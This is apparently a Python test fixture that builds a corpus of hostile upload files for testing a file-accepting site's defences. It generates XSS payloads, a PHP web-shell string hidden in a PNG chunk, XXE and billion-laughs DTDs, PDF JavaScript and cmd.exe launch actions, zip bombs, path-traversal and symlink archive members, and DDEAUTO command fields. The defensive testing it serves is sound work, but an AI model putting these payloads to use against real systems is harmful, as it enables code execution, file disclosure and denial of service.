"""The hostile corpus: 44 kinds of file that a site which takes files must expect, each built here, none downloaded.

`CORPUS[number]` makes the bytes (or several) of that row; the numbers are those of the table in test_files_hostile.py.
"""

import io
import struct
import zipfile
import zlib
from functools import cache

import docx
import openpyxl
import pikepdf
from PIL import Image

SCRIPT = b"<html><script>alert(1)</script></html>"
DTD = '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
LAUGHS = '<!DOCTYPE r [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>'
SHEET = "xl/worksheets/sheet1.xml"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"


# --- PDF --------------------------------------------------------------------------------------------------------------


def pdf(*objects: bytes, catalog: bytes = b"", kids: bytes = b"3 0 R", count: int = 1) -> bytes:
    """A PDF by hand: catalogue 1, page tree 2, one page 3, then `objects` from 4 on."""
    return assembled(
        b"<</Type/Catalog/Pages 2 0 R%s>>" % catalog,
        b"<</Type/Pages/Count %d/Kids[%s]>>" % (count, kids),
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>",
        *objects,
    )


def assembled(*objects: bytes, trailer: bytes = b"") -> bytes:
    out, starts = io.BytesIO(), []
    out.write(b"%PDF-1.7\n")
    for number, body in enumerate(objects, start=1):
        starts.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    table = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    out.write(b"".join(b"%010d 00000 n \n" % start for start in starts))
    out.write(b"trailer\n<</Size %d/Root 1 0 R%s>>\n" % (len(objects) + 1, trailer))
    out.write(b"startxref\n%d\n%%%%EOF\n" % table)
    return out.getvalue()


@cache
def zeros(size: int) -> bytes:
    packer, block = zlib.compressobj(9), bytes(1 << 20)
    return b"".join([*(packer.compress(block) for _ in range(size >> 20)), packer.flush()])


def stream(data: bytes, told: bytes = b"/Filter/FlateDecode") -> bytes:
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (told, len(data), data)


def object_stream_bomb(size: int = 1 << 30) -> bytes:
    """qpdf itself must unpack the stream in which object 4 is said to lie."""
    bomb, out, starts = zeros(size), io.BytesIO(b""), []
    out.write(b"%PDF-1.7\n")
    for number, body in enumerate(
        (
            b"<</Type/Catalog/Pages 2 0 R/X 5 0 R>>",
            b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
            b"<</Type/Page/Parent 2 0 R>>",
            stream(bomb, b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode"),
        ),
        start=1,
    ):
        starts.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    table = out.tell()
    rows = [(0, 0, 255), *((1, start, 0) for start in starts), (2, 4, 0), (1, table, 0)]
    data = b"".join(struct.pack(">BIB", *row) for row in rows)
    out.write(b"6 0 obj\n%s\nendobj\n" % stream(data, b"/Type/XRef/W[1 4 1]/Size 7/Root 1 0 R"))
    out.write(b"startxref\n%d\n%%%%EOF\n" % table)
    return out.getvalue()


def xref_loop() -> bytes:
    whole = pdf()
    at = whole.rindex(b"startxref\n") + 10
    table = int(whole[at:].split(b"\n")[0])
    return whole.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % table)


def locked_pdf(password: str = "mật khẩu") -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as document:
        document.save(out, encryption=pikepdf.Encryption(user=password, owner="chủ"))
    return out.getvalue()


def pdf_with_attachment() -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as document:
        document.attachments["hoa-don.exe"] = b"MZ" + bytes(100)
        document.save(out)
    return out.getvalue()


# --- pictures ---------------------------------------------------------------------------------------------------------


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(*chunks: bytes, size: tuple[int, int] = (8, 8)) -> bytes:
    """A grey picture; `chunks` stand before its pixels."""
    width, height = size
    head = png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    pixels = zlib.compress((b"\0" + bytes(min(width, 64))) * min(height, 64))
    return b"".join([b"\x89PNG\r\n\x1a\n", head, *chunks, png_chunk(b"IDAT", pixels), png_chunk(b"IEND", b"")])


def animated_png(frames: int = 10_000) -> bytes:
    control = struct.pack(">IIIIIHHBB", 0, 8, 8, 0, 0, 1, 10, 0, 0)
    extra = b"".join(
        png_chunk(b"fcTL", struct.pack(">I", 2 * n + 1) + control[4:])
        + png_chunk(b"fdAT", struct.pack(">I", 2 * n + 2) + zlib.compress((b"\0" + bytes(8)) * 8))
        for n in range(frames)
    )
    return png(png_chunk(b"acTL", struct.pack(">II", frames, 0)), extra)


def photograph(*, orientation: int = 1, size: tuple[int, int] = (64, 32)) -> bytes:
    """A JPEG as a telephone makes it: where it was taken, by what, a comment, and a script in the description."""
    picture = Image.linear_gradient("L").resize(size).convert("RGB")
    exif = picture.getexif()
    exif[0x010E], exif[0x0110], exif[0x0112] = "<script>alert(1)</script>", "May anh mau", orientation
    place = exif.get_ifd(0x8825)
    place[1], place[2], place[3], place[4] = "N", (22.0, 32.0, 11.0), "E", (103.0, 20.0, 1.0)
    out = io.BytesIO()
    picture.save(out, "JPEG", exif=exif, comment=b"ghi chu rieng", quality=90)
    return out.getvalue() + b"PK\x03\x04 a film behind the picture"


# --- Office packages --------------------------------------------------------------------------------------------------


@cache
def workbook() -> bytes:
    book, out = openpyxl.Workbook(), io.BytesIO()
    book.active.append(["Chỉ tiêu", 12.5])
    book.save(out)
    return out.getvalue()


@cache
def document() -> bytes:
    paper, out = docx.Document(), io.BytesIO()
    paper.add_paragraph("Biên bản nghiệm thu")
    paper.save(out)
    return out.getvalue()


def members_of(package: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(package)) as whole:
        return {name: whole.read(name) for name in whole.namelist()}


def packed(members: dict[str, bytes | str]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as whole:
        for name, data in members.items():
            whole.writestr(name, data)
    return out.getvalue()


def sheet(inside: str, *, before: str = "", dimension: str = "A1") -> bytes:
    """A workbook whose only sheet is `inside`; `before` stands in front of its root."""
    space = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    text = (
        f'<?xml version="1.0"?>{before}<worksheet {space}><dimension ref="{dimension}"/>'
        f"<sheetData>{inside}</sheetData></worksheet>"
    )
    return packed(members_of(workbook()) | {SHEET: text})


def rows(number: int) -> bytes:
    return sheet("".join(f'<row r="{n}"><c r="A{n}"><v>{n}</v></c></row>' for n in range(1, number + 1)))


def related(package: bytes, part: str, kind: str, target: str) -> bytes:
    """`package` with one more external relationship of `part`."""
    one = (
        f'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
        f'Target="{target}" TargetMode="External"/>'
    )
    empty = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
    members = members_of(package)
    members[part] = members.get(part, empty).decode().replace("</Relationships>", one + "</Relationships>")
    return packed(members)


def external_link(kind: str = "externalBook") -> bytes:
    space = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    return packed(
        members_of(workbook())
        | {"xl/externalLinks/externalLink1.xml": f"<externalLink {space}><{kind}/></externalLink>"}
    )


def web_query() -> bytes:
    return packed(
        members_of(workbook()) | {"xl/connections.xml": "<connections/>", "xl/queryTables/queryTable1.xml": "<q/>"}
    )


def nested(levels: int = 5) -> bytes:
    inner = packed({"a.txt": "a"})
    for _ in range(levels - 1):
        inner = packed({"inner.zip": inner})
    return packed(members_of(document()) | {"word/media/image1.png": inner})


def overlapping() -> bytes:
    """Two names of the directory point at the same bytes."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as whole:
        for name, data in members_of(workbook()).items():
            whole.writestr(name, data)
        twin = zipfile.ZipInfo("xl/media/twin.bin")
        first = whole.infolist()[0]
        twin.header_offset, twin.compress_size, twin.file_size = (
            first.header_offset,
            first.compress_size,
            first.file_size,
        )
        twin.CRC, twin.compress_type = first.CRC, first.compress_type
        whole.filelist.append(twin)
        whole.NameToInfo[twin.filename] = twin
    return out.getvalue()


def lying() -> bytes:
    """The directory says that 30 MB are 10 bytes."""
    data = bytearray(packed(members_of(workbook()) | {"xl/media/a.bin": bytes(30 << 20)}))
    at = data.rindex(b"PK\x01\x02")
    struct.pack_into("<L", data, at + 24, 10)
    return bytes(data)


def with_member(name: str, *, link: bool = False) -> bytes:
    out = io.BytesIO(workbook())
    with zipfile.ZipFile(out, "a") as whole:
        member = zipfile.ZipInfo(name)
        member.external_attr = (0o120777 if link else 0o100644) << 16
        whole.writestr(member, "/etc/passwd")
    return out.getvalue()


def many_members(number: int = 100_000) -> bytes:
    out = io.BytesIO(workbook())
    with zipfile.ZipFile(out, "a") as whole:
        for n in range(number):
            whole.writestr(f"m/{n}", b"")
    return out.getvalue()


def word(inside: str, *, before: str = "") -> bytes:
    space = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    text = f'<?xml version="1.0"?>{before}<w:document {space}><w:body>{inside}</w:body></w:document>'
    return packed(members_of(document()) | {"word/document.xml": text})


def shared_string(length: int = 20 << 20) -> bytes:
    space = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    words = "".join(f"{n:08d}" for n in range(length // 8))  # digits that do not shrink to nothing
    return packed(members_of(workbook()) | {"xl/sharedStrings.xml": f"<sst {space}><si><t>{words}</t></si></sst>"})


_CUT_FIELD = '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
_RUNS = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in (" D", "DEA", "UTO cmd /c calc"))

CORPUS = {
    "1": lambda: SCRIPT,
    "2": lambda: b"%PDF-1.4\n" + SCRIPT,
    "2b": lambda: b"<!--\n%PDF-1.4\n-->" + SCRIPT,
    "3": lambda: b"GIF89a" + bytes(20) + workbook(),
    "4": lambda: b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "5": lambda: b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>',
    "6": lambda: png(png_chunk(b"tEXt", b"Comment\0<?php system($_GET[0]); ?><script>alert(1)</script>")),
    "7": photograph,
    "8": lambda: png(size=(50_000, 50_000)),
    "9": lambda: png(size=(13_000, 13_000)),
    "10": lambda: png()[:-20],
    "11": animated_png,
    "12": lambda: pdf(catalog=b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"),
    "12b": lambda: pdf(catalog=b"/OpenAction<</S/#4aavaScript/J#53(app.alert\\(1\\))>>"),
    "13": lambda: pdf(catalog=b"/OpenAction<</S/Launch/F(cmd.exe)>>"),
    "14": pdf_with_attachment,
    "15": locked_pdf,
    "16": lambda: pdf(kids=b" ".join([b"3 0 R"] * 100_000), count=100_000),
    "16b": lambda: pdf(kids=b" ".join([b"3 0 R"] * 100_000), count=1),
    "17": xref_loop,
    "18": lambda: pdf(stream(zeros(1 << 30))),
    "18b": object_stream_bomb,
    "19": lambda: b"\n" * 900 + pdf(),
    "20": lambda: packed(members_of(workbook()) | {"xl/media/a.bin": bytes(500 << 20)}),
    "21": lambda: rows(900_000),
    "22": lambda: sheet('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
    "23": lambda: sheet("".join(f'<row r="{n}"/>' for n in range(1, 60_000)), dimension="A1:B2"),
    "24": lambda: sheet("<row><c><v>&x;</v></c></row>", before=DTD),
    "25": lambda: sheet("<row><c><v>&c;</v></c></row>", before=LAUGHS),
    "26": external_link,
    "26b": web_query,
    "26c": lambda: external_link("ddeLink"),
    "27": lambda: packed(members_of(workbook()) | {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
    "28": shared_string,
    "29": lambda: sheet('<row r="7"><c r="B7"><f>SUM(A1:A6)</f></c></row>'),
    "30": nested,
    "31": overlapping,
    "32": lying,
    "33": many_members,
    "34": lambda: with_member("../../etc/x"),
    "34b": lambda: with_member("/etc/x"),
    "35": lambda: with_member("xl/media/a.png", link=True),
    "36": lambda: word("<w:p>&x;</w:p>", before=DTD),
    "37": lambda: related(document(), "word/_rels/settings.xml.rels", "attachedTemplate", "https://example.org/a.dotm"),
    "37b": lambda: related(document(), "word/_rels/settings.xml.rels", "attachedTemplate", r"\\may-la\chung\a.dotm"),
    "38": lambda: word('<w:fldSimple w:instr="DDEAUTO cmd /c calc"/>'),
    "38b": lambda: word(_CUT_FIELD.format(_RUNS)),
    "40": lambda: b"",
    "40b": lambda: b"%",
    "43": lambda: EICAR,
}
